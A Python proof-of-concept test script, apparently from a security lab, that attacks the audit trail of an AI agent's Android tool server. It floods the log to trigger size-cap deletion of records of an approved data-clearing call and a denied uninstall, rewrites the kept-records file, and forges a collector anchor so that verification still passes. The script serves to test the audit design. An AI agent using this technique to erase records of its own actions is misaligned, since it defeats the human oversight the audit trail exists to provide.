"""Goal 1, end to end, one forged anchor: an APPROVED android_clear_app_data and a DENIED
android_uninstall_app vanish from the record while verify --anchors (root) exits 0.
max_total_mb = 1. The agent (same user):
  1. after the two calls, floods read-only calls with 15 KiB junk args and ~25 harmless REFUSED
     uninstalls with 12 KB invalid package names (padding), until the honest size cap deletes the
     files holding the two records (the server copies them to audit.kept.jsonl, as designed);
  2. rewrites audit.kept.jsonl as byte-exact copies of its own refused padding records that are
     still in the live trail (each agrees with its anchor), ~ the kept cap (262144 B);
  3. sends ONE kept-cap anchor with the real run id (audit.state.json), cap=262144, first= the
     first copied seq, over its own TCP connection to the collector."""
import json, os, glob, time
from lab import *
lab = Lab("erase")
KCAP = 262144
try:
    h = lab.new_home("erase", lab.conf("max_total_mb = 1"))
    s = lab.serve(h); c = lab.client(h)
    c.call("android_get_battery_info")
    c.approve = True
    print("approved clear:", c.call("android_clear_app_data", {"packageName": "com.example.notes"}))
    c.approve = False
    print("denied uninstall:", c.call("android_uninstall_app", {"packageName": "com.example.bank"})[1])
    for i in range(100):
        c.call("android_get_battery_info", {"junk": "not base64! " * 1250})
    for i in range(25):
        c.call("android_uninstall_app", {"packageName": "pad! " * 2400})
        c.call("android_get_battery_info", {"junk": "not base64! " * 1250})
    for i in range(20):
        c.call("android_get_battery_info", {"junk": "not base64! " * 1250})
    c.close(); lab.stop(s); lab.wait_anchor(h, "stop")
    d = lab.audit_dir(h)
    r0 = lab.verify(h); show("honest verify before tampering", r0)
    print(sorted((f.name, f.stat().st_size) for f in d.iterdir()))

    def tamper():
        kept = (d / "audit.kept.jsonl").read_text().splitlines()
        before = [(json.loads(l)["seq"], json.loads(l)["tool"], json.loads(l)["outcome"]) for l in kept]
        live = sorted((l for f in glob.glob(str(d / "audit*.jsonl")) if not f.endswith("kept.jsonl")
                       for l in open(f).read().splitlines()), key=lambda l: json.loads(l)["seq"])
        pad, size = [], 0
        for l in live:
            if json.loads(l)["outcome"] == "refused":
                if size + len(l) + 1 > KCAP: break
                pad.append(l); size += len(l) + 1
        (d / "audit.kept.jsonl").write_text("".join(l + "\n" for l in pad))
        st = json.loads((d / "audit.state.json").read_text())
        return before, [json.loads(l)["seq"] for l in pad], size, st
    before, after, size, st = lab.as_user(tamper)
    print("kept before:", before)
    print("kept after :", after, size, "B")
    t = lab.trail_id(h)
    lab.as_user(send_frame, lab.rsyslog.port,
                anchor_msg(t, st["run"], st["seq"], st["hash"], "kept-cap", cap=KCAP, first=after[0]))
    time.sleep(1)
    recs = [json.loads(l) for f in glob.glob(str(d / "audit*.jsonl")) for l in open(f)]
    print("clear_app_data / bank uninstall records left anywhere:",
          [(r["seq"], r["tool"], r["outcome"]) for r in recs if r["tool"] == "android_clear_app_data"
           or "bank" in json.dumps(r.get("arguments"))])
    r = lab.verify(h); show("verify --anchors (root) after tampering", r)
    print("VERDICT:", "BROKEN (exit 0)" if r.returncode == 0 else f"HOLDS (exit {r.returncode})")
finally:
    lab.close()
